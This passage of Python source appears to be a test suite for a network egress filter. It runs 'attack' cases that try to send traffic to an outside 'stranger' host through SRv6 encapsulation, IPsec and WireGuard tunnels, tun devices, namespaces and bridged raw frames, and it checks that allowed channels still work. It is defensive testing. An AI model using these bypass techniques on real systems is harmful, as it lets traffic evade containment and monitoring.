@attack("out", "segment routing by a route (seg6 encap)", lacks=True)
def seg6(t):
    t.ground.ip(f"-6 route add fd99::/64 encap seg6 mode encap segs {g.STRANGER6} dev wan0")
    t.udp("fd99::1", 9000)


@attack("out", "IPsec tunnel by xfrm", lacks=True)
def xfrm(t):
    t.marks.append(p.packed(g.NODE4) + p.packed(g.STRANGER4) + struct.pack("!I", t.port))
    t.ground.ip(f"xfrm state add src {g.NODE4} dst {g.STRANGER4} proto esp spi {t.port} mode tunnel"
                f" aead rfc4106(gcm(aes)) 0x{'11' * 20} 128")
    t.ground.ip(f"xfrm policy add dst 10.99.0.0/16 dir out tmpl src {g.NODE4} dst {g.STRANGER4}"
                " proto esp mode tunnel")
    t.udp("10.99.0.1", 9000)


@attack("out", "WireGuard device", lacks=True)
def wireguard(t):
    t.marks.append(g.asks(g.NODE4, g.STRANGER4, t.port, 51820))
    t.ground.ip("link add at-wg type wireguard")
    t.ground.made.append("at-wg")
    set_wireguard("at-wg", t.port, g.STRANGER4, 51820)
    t.ground.ip("address add 10.98.0.1/24 dev at-wg", "link set at-wg up")
    t.udp("10.98.0.2", 9000)


def attribute(kind, data):
    return (struct.pack("=HH", 4 + len(data), kind) + data).ljust((len(data) + 7) // 4 * 4, b"\0")


def generic(sock, family, command, version, data):
    """One message of generic netlink, and the answer."""
    body = struct.pack("=BBH", command, version, 0) + data
    sock.send(struct.pack("=IHHII", 16 + len(body), family, 5, 1, 0) + body)
    answer = sock.recv(65535)
    if struct.unpack_from("=H", answer, 4)[0] == 2 and struct.unpack_from("=i", answer, 16)[0]:
        raise OSError(-struct.unpack_from("=i", answer, 16)[0], "netlink")
    return answer


def set_wireguard(name, port, endpoint, endpoint_port):
    """A key, a port and one peer, without the program wg (include/uapi/linux/wireguard.h)."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16) as sock:
        said = generic(sock, 16, 3, 1, attribute(2, b"wireguard\0"))
        family = struct.unpack_from("=H", said, said.index(struct.pack("=HH", 6, 1)) + 4)[0]
        where = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(endpoint_port),
                            socket.inet_aton(endpoint))
        allowed = attribute(0x8000, attribute(1, struct.pack("=H", socket.AF_INET)) +
                            attribute(2, b"\0" * 4) + attribute(3, b"\0"))
        peer = attribute(0x8000, attribute(1, os.urandom(32)) + attribute(4, where) +
                         attribute(0x8009, allowed))
        generic(sock, family, 1, 1, attribute(2, name.encode() + b"\0") +
                attribute(3, os.urandom(32)) + attribute(6, struct.pack("=H", port)) +
                attribute(0x8008, peer))


def child(t, name, kind, *, parent="wan0"):
    t.ground.ip(f"link add {name} link {parent} type {kind}")
    t.ground.made.append(name)
    t.ground.ip(f"address add 10.88.{t.number}.1/24 dev {name}", f"link set {name} up")
    t.ground.ip(f"neighbour replace 10.88.{t.number}.2 lladdr 02:00:00:00:00:07 dev {name}",
                check=False)
    t.udp(f"10.88.{t.number}.2", 9000)


def vlan_device(t, name, parent, number, protocol="802.1Q"):
    child(t, name, f"vlan proto {protocol} id {number}", parent=parent)


def qinq_device(t):
    vlan_device(t, "at-outer", "wan0", 9, "802.1ad")
    vlan_device(t, "at-inner", "at-outer", 10)


def tun(t, name, flags):
    """By a node of our own: a small machine has no /dev/net."""
    node = os.path.join(t.ground.tmp, "tun")
    if not os.path.exists(node):
        os.mknod(node, 0o600 | stat.S_IFCHR, os.makedev(10, 200))
    number = os.open(node, os.O_RDWR)
    fcntl.ioctl(number, TUNSETIFF, struct.pack("16sH14x", name.encode(), flags | IFF_NO_PI))
    return number


@attack("through", "tun device: a program as a router")
def tun_device(t):
    t.held.append(tun(t, "at-tun", IFF_TUN))
    t.ground.ip("address add 10.89.0.1/24 dev at-tun", "link set at-tun up")
    os.write(t.held[-1], t.datagram("10.89.0.2", g.STRANGER4))


@attack("through", "new namespace, veth and route")
def guest(t):
    name = t.ground.name
    t.ground.ip(f"link add at-guest type veth peer name eth0 netns {name}-guest")
    t.ground.made.append("at-guest")
    for at, interface, address in (("node", "at-guest", "10.90.0.1/24"),
                                   ("guest", "eth0", "10.90.0.2/24")):
        t.ground.ip(f"address add {address} dev {interface}", f"link set {interface} up", at=at)
    t.ground.ip("route add default via 10.90.0.1", at="guest")
    t.udp(g.STRANGER4, 9000, at="guest")


@attack("through", "new namespace with a macvlan of the uplink")
def guest_macvlan(t):
    t.ground.ip(f"link add at-moved link wan0 netns {t.ground.name}-guest type macvlan mode bridge")
    t.ground.ip("address add 10.1.0.77/24 dev at-moved", "link set at-moved up",
                "neighbour replace 10.1.0.66 lladdr 02:00:00:00:00:07 dev at-moved", at="guest")
    t.udp(g.STRANGER4, 9000, at="guest", source="10.1.0.77")


@attack("through", "the uplink made port of a bridge, beside a new veth")
def bridged(t):
    """Its frames pass no IP stack of the node. The uplink is given back at once."""
    name = t.ground.name
    t.ground.ip("link del at-macvlan", check=False)
    t.ground.ip("link del at-moved", at="guest", check=False)
    t.ground.ip("link add at-bridge type bridge")
    t.ground.ip(f"link add at-port type veth peer name eth1 netns {name}-guest")
    t.ground.made += ["at-bridge", "at-port"]
    for port in ("at-port", "wan0"):
        t.ground.ip(f"link set {port} master at-bridge")
    t.ground.ip("link set eth1 up", at="guest")
    t.ground.ip("link set at-port up", "link set at-bridge up")
    sock = t.ground.socket(socket.AF_PACKET, socket.SOCK_RAW, 0, at="guest")
    sock.bind(("eth1", 0))
    t.held.append(sock)
    far = t.ground.macs["wan0", "eth0"]
    frame = p.ether(far, b"\2\0\0\0\0\7", p.IPV4, t.datagram("10.1.0.99", g.STRANGER4))
    for _ in range(20):
        sock.send(frame)
        time.sleep(0.01 * g.slower())
    t.ground.ip("link set wan0 nomaster")


# ---- the keep list: what must pass all the same -------------------------------------------------

section("keep list, which must pass")

def echoed(t, sock):
    """Does what it sends come back?"""
    sock.settimeout(3 * g.slower())
    sock.send(t.data())
    while not t.passed:
        said = sock.recv(4096)
        if not said:
            return
        t.passed = t.token in said


def keep_tcp(t, to, dport, at="node", source=None):
    yield
    with trusted():
        sock = t.connecting(to, dport, at=at, source=source)
    yield
    echoed(t, sock)


attack("keep", "keep list: control channel")(
    partial(keep_tcp, to=g.CONTROL4, dport=g.KEPT_PORT))
attack("keep", "keep list: control channel, IPv6")(
    partial(keep_tcp, to=g.CONTROL6, dport=g.KEPT_PORT))


@attack("keep", "keep list: control channel, connected before")
def keep_before(t):
    with trusted():
        sock = t.connected(g.CONTROL4, g.KEPT_PORT)
    yield
    echoed(t, sock)


@attack("keep", "keep list: responders in")
def keep_in(t):
    yield from keep_tcp(t, g.NODE4, g.KEPT_IN_PORT, at="wan0", source=g.CONTROL4)


@attack("keep", "keep list: DNS to the resolver")
def keep_dns(t):
    yield
    with trusted():
        sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((g.RESOLVER4, 53))
    sock.send(b"asked")
    yield
    echoed(t, sock)


assert len(ATTACKS) < 200
